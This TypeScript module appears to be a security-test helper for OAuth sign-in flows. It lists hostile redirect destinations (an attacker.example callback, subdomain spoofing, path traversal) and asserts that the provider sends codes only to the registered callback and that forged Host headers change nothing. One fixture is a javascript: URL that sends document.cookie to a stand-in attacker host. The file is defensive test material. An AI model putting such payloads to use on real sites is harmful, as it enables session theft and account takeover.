import type { Actor } from './actor';
/**
 * Where a sign-in might be sent, in a security reviewer's words. Each is built from the callback
 * the platform itself named, so the same words work against any deployment.
 */
export const OAUTH_DESTINATIONS: Record<string, (ownCallback: URL) => string> = {
  "the platform's own sign-in callback": (own) => own.href,
  'another site': () => 'https://attacker.example/auth/callback',
  "another site using the platform's address as a sub-domain": (own) => `https://${own.hostname}.attacker.example${own.pathname}`,
  'a javascript address': () => 'javascript:fetch("https://attacker.example/?"+document.cookie)',
  "the platform's own address with another path": (own) => new URL('/auth/elsewhere', own).href,
  "the platform's own callback with something added to its path": (own) => `${own.href}/../../attacker`,
  'something that is not an address': () => 'not an address',
};

/** Where the provider was asked to send a code, from its authorize address. */
export function ownCallback(authorizeUrl: string): URL {
  const named = new URL(authorizeUrl).searchParams.get('redirect_uri');
  if (!named) throw new Error(`Expected the platform to name its own callback (redirect_uri) when sending the customer to the provider; it sent them to ${authorizeUrl}`);
  return new URL(named);
}

/** The provider's approval: a redirect to exactly the destination, carrying a code and the state. */
export function expectCodeSentTo(answer: { status: number; location?: string; call: string; text: string } | undefined, destination: string): void {
  if (!answer) throw new Error('Expected the provider to have been asked for a code; nothing was asked.');
  const back = answer.location ? new URL(answer.location) : undefined;
  const there = back && `${back.origin}${back.pathname}` === `${new URL(destination).origin}${new URL(destination).pathname}`;
  if (answer.status !== 302 || !there || !back.searchParams.get('code') || !back.searchParams.get('state')) {
    throw new Error(`Expected ${answer.call} to send a code and the state to ${destination}; it answered ${answer.status}${answer.location ? ` to ${answer.location.replace(/code=[^&]+/, 'code=…')}` : `: ${answer.text.slice(0, 200)}`}`);
  }
}

/** A forged start leads where an honest one does: the provider and the callback at the platform's own address. */
export function expectSameDestinations(forged: { status: number; location?: string; call: string }, honest: { location?: string }): void {
  const where = (location?: string) => {
    if (!location) return 'nowhere';
    const url = new URL(location);
    return `${url.origin}${url.pathname} with the code sent to ${url.searchParams.get('redirect_uri')}`;
  };
  if (forged.status !== 302 || where(forged.location) !== where(honest.location)) {
    throw new Error(`Expected a sign-in started with a forged Host header to lead to ${where(honest.location)}, as any other does; it answered ${forged.status} leading to ${where(forged.location)}`);
  }
}

/**
 * The platform sends the customer to the provider with an authorization request a real provider
 * takes (OAuth 2.0 section 4.1.1, OpenID Connect): for a code, naming the client, asking for the
 * person's identity and email, and carrying the state it will check on the way back.
 */
export function expectAuthorizationRequest(authorizeUrl: string): void {
  const query = new URL(authorizeUrl).searchParams;
  const scopes = (query.get('scope') ?? '').split(' ');
  const missing = [
    query.get('response_type') === 'code' ? undefined : 'response_type=code',
    query.get('client_id') ? undefined : 'a client_id',
    scopes.includes('openid') && scopes.includes('email') ? undefined : 'the openid and email scopes',
    query.get('state') ? undefined : 'a state',
    query.get('redirect_uri') ? undefined : 'a redirect_uri',
  ].filter(Boolean);
  if (missing.length) {
    throw new Error(`Expected the provider to be asked for an authorization code with ${missing.join(', ')}; the platform sent the customer to ${authorizeUrl.replace(/state=[^&]+/, 'state=…')}`);
  }
}

/** Where the auth service is published behind a proxy, written as an operator might, with trailing slashes. */
export const PUBLISHED_AUTH_ADDRESS = 'https://auth.apex.example//';

/**
 * A sign-in started on an instance published at an address of its own leads only through that
 * address: to the provider from it, and back to its callback, never to the address it listens on.
 */
export function expectLeadsThroughPublishedAddress(answer: { status: number; location?: string; call: string; text: string } | undefined): void {
  const published = new URL(PUBLISHED_AUTH_ADDRESS);
  const to = answer?.location ? new URL(answer.location) : undefined;
  const back = to?.searchParams.get('redirect_uri');
  const callback = `${published.origin}/auth/callback`;
  if (answer?.status !== 302 || !to || to.origin !== published.origin || to.pathname.startsWith('//') || back !== callback) {
    throw new Error(`Expected the sign-in to lead to the provider at ${published.origin} and back to ${callback}; ${answer?.call} answered ${answer?.status}${to ? ` leading to ${to.origin}${to.pathname} with the code sent to ${back}` : `: ${answer?.text.slice(0, 200)}`}`);
  }
}

/** Where the owner came back to from Google, for others to replay; asking before it happened is a mistake in the scenario. */
export function googleReturnOf(owner: Actor): string {
  if (!owner.noted('googleReturn')) throw new Error(`${owner.name} has not come back from Google yet; write "When ${owner.name} signs in with Google" first.`);
  return owner.recall('googleReturn');
}

/** The provider's approval page the owner went through, to be approved again. */
export function googleApprovalOf(owner: Actor): string {
  if (!owner.noted('googleApproval')) throw new Error(`${owner.name} has not been through Google yet; write "When ${owner.name} signs in with Google" first.`);
  return owner.recall('googleApproval');
}
